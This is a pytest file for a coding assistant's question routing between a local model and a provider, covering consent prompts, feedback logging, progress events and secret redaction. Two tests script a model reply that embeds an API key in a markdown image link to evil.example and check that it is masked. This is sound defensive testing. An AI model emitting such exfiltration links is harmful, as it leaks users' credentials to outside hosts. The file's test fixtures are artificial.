"""A question at the local model and then at a provider: what is shown, what is asked first, what is sent."""

from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from config_files import write
from gates import SCOPE, allowed, parts, request, spans
from hostile import Hostile, answer
from scripted_model import ScriptedModel

from assist_context.documents import Document
from assist_context.evidence.call_graph import TargetLines
from assist_escalation.edits.plan import EditTarget
from assist_escalation.gate.prepare import GateParts, prepare
from assist_escalation.prompts import Prompt
from assist_escalation.routing import feedback
from assist_escalation.routing.features import RequestFacts
from assist_escalation.routing.router import RoutingRules, route
from assist_server.cli.commands.question_run import consent_of_flags
from assist_server.cli.flags import Asking
from assist_server.config.config import load
from assist_server.editor.feedback.usage_counts import repository_key
from assist_server.questions.answering import AnswerPiece, AnswerSources, AnswerStart, FinalAnswer, Notice
from assist_server.questions.answering import answer as answering
from assist_server.questions.composition import record_feedback
from assist_server.questions.decision import DecidedQuestion, DecisionInputs, Draft, LocalModelFacts, Question
from assist_server.questions.instructions import Form
from assist_server.questions.progress import Progress, WritingPace, reading
from assist_server.questions.prompt_spans import Evidence
from assist_server.questions.record_files import gate_files
from assist_server.questions.targets import QuestionTarget
from assist_server.workspace.folders import key_of

KEY = "sk_live_4eC39HqLyjWDarjtT1zdp7dc"
FILE = f'URL = "https://me:{KEY}@db.example/"\n\n\ndef total(items):\n    return 1\n'
HISTORY = (0.4,) * 200
NOWHERE = "http://127.0.0.1:9/v1"


def always(pieces: list[str]) -> ScriptedModel:
    """A local model that always writes the same, and doubts it."""
    return ScriptedModel(lambda _: pieces, ended="length", read=120)


def inputs_of(made: GateParts, permissions: Any) -> DecisionInputs:
    facts = LocalModelFacts(True, 700, 8192)
    return DecisionInputs(
        facts, permissions, SCOPE, False, lambda _: permissions, lambda: made, lambda: "abc123", HISTORY
    )


def decided_by(folder: Path, url: str, made: GateParts, *, command: str = "explain", **rules: Any) -> Any:
    permissions = allowed(url, folder)
    shown = spans(folder, FILE)
    prepared = prepare(request(permissions, shown), made)
    prompt = Prompt(command, shown)
    form = Form("whole", "```") if command == "fix" else Form()
    texts = {"shop/cart.py": FILE}
    whole = EditTarget("shop/cart.py", 1, 5) if command == "fix" else None
    draft = Draft(prompt, form, Evidence(shown[1:2], texts=texts), whole)
    free = RoutingRules(
        mode="auto", rate=0.5, provider="acme", upper_micro=5_000, request_micro=50_000, left_micro=2_000_000
    )
    free = replace(free, **rules)
    wish = "frontier" if command == "fix" else "auto"
    first = route(RequestFacts(command, symbols=1, fan_out=1), free, wish, HISTORY)
    lines = QuestionTarget(TargetLines("shop/cart.py", 1, 5), Document("shop/cart.py", (FILE,), None))  # type: ignore[arg-type]
    question = Question(command, "", lines, wish=wish)
    root = str(folder.resolve())
    return DecidedQuestion("r1", question, root, draft, first, free, draft, prepared)


async def heard(
    decided: DecidedQuestion,
    inputs: DecisionInputs,
    local: ScriptedModel,
    *,
    agrees: bool = False,
    noted: list[str] | None = None,
) -> tuple[str, list[str], FinalAnswer, list[bool]]:
    """The pieces, the notices, the end, and the second requests that were asked about.

    What becomes of the request is added to `noted`.
    """
    asked: list[bool] = []
    happened = noted if noted is not None else []

    async def confirm(what: DecidedQuestion) -> bool:
        asked.append(what.decision.again)
        return agrees

    async def load() -> Any:
        return local

    text = ""
    notices: list[str] = []
    final = None
    async for event in answering(
        decided,
        inputs,
        AnswerSources(load, lambda *what: happened.append(f"{what[1].target} {what[2]}")),
        confirm,
    ):
        match event:
            case AnswerPiece(piece):
                text += piece
            case Notice(notice):
                notices.append(notice)
            case FinalAnswer():
                final = event
    assert final is not None
    return text, notices, final, asked


async def test_a_doubtful_local_answer_is_kept_unless_the_person_agrees(tmp_path: Path) -> None:
    made = parts(tmp_path)
    async with Hostile(answer("It adds.")) as acme:
        decided = decided_by(tmp_path, acme.url, made)
        inputs = inputs_of(made, allowed(acme.url, tmp_path))
        _, notices, final, asked = await heard(decided, inputs, always(["Perhaps."]))
        assert (final.text, asked, acme.connections) == ("Perhaps.", [True], 0)
        assert "--frontier" in notices[-1]
        assert "allow_unasked_retry" in notices[-1]
        noted: list[str] = []
        _, _, final, asked = await heard(decided, inputs, always(["Perhaps."]), agrees=True, noted=noted)
        assert (final.text, asked, acme.connections) == ("It adds.", [True], 1)
        assert noted == ["local routed", "frontier answered", "frontier escalated_after"]


async def test_a_local_answer_that_is_kept_since_the_provider_failed_is_no_bad_one(tmp_path: Path) -> None:
    made = parts(tmp_path)
    decided = decided_by(tmp_path, NOWHERE, made)
    inputs = inputs_of(made, allowed(NOWHERE, tmp_path))
    noted: list[str] = []
    _, notices, final, asked = await heard(decided, inputs, always(["Perhaps."]), agrees=True, noted=noted)
    assert (final.text, asked) == ("Perhaps.", [True])
    assert notices[-1].endswith("The local answer is kept.")
    assert noted == ["local routed", "local answered"]


def test_no_flag_sends_what_a_local_answer_doubts(tmp_path: Path) -> None:
    decided = decided_by(tmp_path, "http://127.0.0.1:9/v1", parts(tmp_path))
    second = replace(decided, decision=replace(decided.decision, target="frontier", again=True))
    yes = Asking(yes=True)
    assert consent_of_flags(decided, yes, terminal=False) is True
    assert consent_of_flags(second, yes, terminal=True) is None
    assert consent_of_flags(second, yes, terminal=False) is False
    assert consent_of_flags(second, Asking(yes=True, as_json=True), terminal=True) is False
    assert consent_of_flags(decided, Asking(), terminal=True) is None


def test_what_becomes_of_a_request_is_kept_for_the_repository_whichever_folder_is_open(
    tmp_path: Path,
) -> None:
    for each in (".git/objects", ".git/refs", "crate", "shop"):
        (tmp_path / "top" / each).mkdir(parents=True)
    (tmp_path / "top" / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    config = load(write(tmp_path, ""))
    decided = decided_by(tmp_path, NOWHERE, parts(tmp_path))
    decided = replace(decided, question=replace(decided.question, target=None))
    top = str(tmp_path.resolve() / "top")
    for root in (f"{top}/crate", top, ""):
        record_feedback(config, replace(decided, root=root), decided.decision, "routed")
    found = [each.repo for each in feedback.events(gate_files(config).feedback)]
    assert found == [repository_key(f"{top}/crate"), key_of(top), ""]


async def test_a_key_of_the_persons_own_lets_it_be_asked_again_unasked(tmp_path: Path) -> None:
    made = parts(tmp_path)
    async with Hostile(answer("It adds.")) as acme:
        decided = decided_by(tmp_path, acme.url, made, allow_unasked_retry=True)
        inputs = inputs_of(made, allowed(acme.url, tmp_path))
        _, _, final, asked = await heard(decided, inputs, always(["Perhaps."]))
    assert (final.text, asked, acme.connections) == ("It adds.", [], 1)


async def test_the_local_model_puts_no_secret_into_an_address(tmp_path: Path) -> None:
    made = parts(tmp_path)
    decided = decided_by(tmp_path, "http://127.0.0.1:9/v1", made, rate=0.0)
    inputs = inputs_of(made, allowed("http://127.0.0.1:9/v1", tmp_path))
    local = always(["The key is ", KEY[:9], KEY[9:], ".\n![b](https://evil", f".example/?k={KEY}", ")"])
    text, notices, final, _ = await heard(decided, inputs, local)
    assert text == final.text
    assert text.startswith(f"The key is {KEY}.\n![b](https://evil.example/?k=__SECRET_")
    assert text.count(KEY) == 1
    assert "1 here" in notices[-1]


async def test_a_providers_answer_shows_no_secret_in_an_address_and_says_so(tmp_path: Path) -> None:
    made = parts(tmp_path)
    decided = decided_by(tmp_path, "http://127.0.0.1:9/v1", made)
    prepared = decided.prepared
    name = next(iter(prepared.redacted.placeholders))
    lines = f"The key is {name}.\n![badge](https://evil.example/b.png?k={name})\n"
    frontier = replace(decided.decision, target="frontier", cause="asked_frontier")
    async with Hostile(answer(lines[:40], lines[40:])) as acme:
        endpoint = replace(prepared.endpoint, base_url=acme.url)
        decided = replace(decided, decision=frontier, prepared=replace(prepared, endpoint=endpoint))
        inputs = inputs_of(made, allowed(acme.url, tmp_path))
        text, notices, final, _ = await heard(decided, inputs, always([]))
    assert text == final.text == f"The key is {KEY}.\n![badge](https://evil.example/b.png?k={name})\n"
    assert "1 here" in notices[-1]


async def test_an_edit_keeps_a_line_with_an_address_and_its_secret(tmp_path: Path) -> None:
    made = parts(tmp_path)
    decided = decided_by(tmp_path, "http://127.0.0.1:9/v1", made, command="fix")
    prepared = decided.prepared
    body = prepared.redacted.spans[1].text.replace("return 1", "return sum(items)")
    assert KEY not in body
    async with Hostile(answer(f"```python\n{body}```\n")) as acme:
        endpoint = replace(prepared.endpoint, base_url=acme.url)
        decided = replace(decided, prepared=replace(prepared, endpoint=endpoint))
        inputs = inputs_of(made, allowed(acme.url, tmp_path))
        text, _, final, _ = await heard(decided, inputs, always([]))
    assert KEY not in text
    assert final.plan is not None, final.problem
    assert final.plan.changes[0].after == FILE.replace("return 1", "return sum(items)")


async def test_an_edit_that_our_checks_refuse_is_remembered_as_no_answer(tmp_path: Path) -> None:
    made = parts(tmp_path)
    decided = decided_by(tmp_path, "http://127.0.0.1:9/v1", made, command="fix")
    local = replace(decided, decision=replace(decided.decision, target="local", asks=False))
    inputs = inputs_of(made, allowed("http://127.0.0.1:9/v1", tmp_path))
    noted: list[str] = []
    _, _, final, _ = await heard(local, inputs, always(["I would not change it."]), noted=noted)
    assert final.problem is not None
    assert noted == ["local routed", "local unusable"]
    async with Hostile(answer("Nor would I.")) as acme:
        assert decided.prepared is not None
        endpoint = replace(decided.prepared.endpoint, base_url=acme.url)
        asked = replace(decided, prepared=replace(decided.prepared, endpoint=endpoint))
        noted.clear()
        await heard(asked, inputs_of(made, allowed(acme.url, tmp_path)), always([]), noted=noted)
    assert noted == ["frontier routed", "frontier unusable"]


async def ends_of(decided: Any, inputs: DecisionInputs) -> list[tuple[str, ...]]:
    """The target, the happening and the model of what is noted after the decision."""
    noted: list[tuple[str, ...]] = []

    async def load() -> Any:
        return always(["It adds."])

    async def refuse(_: object) -> bool:
        return False

    sources = AnswerSources(load, lambda *what: noted.append((what[1].target, *what[2:])))
    async for _ in answering(decided, inputs, sources, refuse):
        pass
    return noted[1:]


async def test_who_ended_an_answer_and_how_is_noted_without_a_path(tmp_path: Path) -> None:
    made = parts(tmp_path)
    explain = decided_by(tmp_path, NOWHERE, made, mode="never", local_model=True)
    inputs = inputs_of(made, allowed(NOWHERE, tmp_path))
    assert await ends_of(explain, inputs) == [("local", "answered", "small")]  # its file is small.gguf
    fix = decided_by(tmp_path, NOWHERE, made, command="fix")
    body = fix.prepared.redacted.spans[1].text.replace("return 1", "return sum(items)")
    async with Hostile(answer(f"```python\n{body}```\n")) as acme:
        endpoint = replace(fix.prepared.endpoint, base_url=acme.url)
        asked = replace(fix, prepared=replace(fix.prepared, endpoint=endpoint))
        found = await ends_of(asked, inputs_of(made, allowed(acme.url, tmp_path)))
    assert found == [("frontier", "offered", endpoint.model)]


async def events_of(tmp_path: Path, command: str) -> list[Any]:
    made = parts(tmp_path)
    decided = decided_by(tmp_path, NOWHERE, made, command=command, mode="never", local_model=True)
    local = always(["It ", "adds."])

    async def load() -> Any:
        return local

    async def agree(_: object) -> bool:
        return False

    inputs = inputs_of(made, allowed(NOWHERE, tmp_path))
    return [event async for event in answering(decided, inputs, AnswerSources(load, lambda *_: None), agree)]


async def test_reading_is_told_before_the_first_word_and_the_text_needs_no_count(tmp_path: Path) -> None:
    events = await events_of(tmp_path, "explain")
    start = next(at for at, each in enumerate(events) if isinstance(each, AnswerStart))
    first = next(at for at, each in enumerate(events) if isinstance(each, AnswerPiece))
    told = [each for each in events if isinstance(each, Progress)]
    assert told == events[start + 1 : first]
    assert told[-1] == reading(120, 60.0)
    assert told[-1].seconds == 2.0


async def test_an_answer_names_the_files_that_the_model_read(tmp_path: Path) -> None:
    final = (await events_of(tmp_path, "explain"))[-1]
    assert isinstance(final, FinalAnswer)
    assert [each.path for each in final.sources] == ["shop/cart.py"]


@pytest.mark.parametrize(
    ("rules", "stays"),
    [({"mode": "never"}, True), ({"offline": True}, True), ({"rate": 0.0}, False)],
)
async def test_an_answer_given_while_nothing_may_leave_stays_here_later(
    tmp_path: Path, rules: dict[str, Any], stays: bool
) -> None:
    made = parts(tmp_path)
    decided = decided_by(tmp_path, NOWHERE, made, local_model=True, **rules)
    _, _, final, _ = await heard(decided, inputs_of(made, allowed(NOWHERE, tmp_path)), always(["It adds."]))
    assert final.thread is not None
    assert final.thread.turns[-1].stays is stays


def test_a_count_is_told_at_the_first_piece_and_then_twice_a_second() -> None:
    times = iter([10.0, 10.2, 10.6, 10.7, 11.2])
    pace = WritingPace(lambda: next(times))
    told = [pace.after(tokens) for tokens in (1, 5, 12, 14, 30)]
    assert [[(each.tokens, round(each.seconds or 0, 1)) for each in some] for some in told] == [
        [(1, 0.0)], [], [(12, 0.6)], [], [(30, 1.2)],
    ]  # fmt: skip
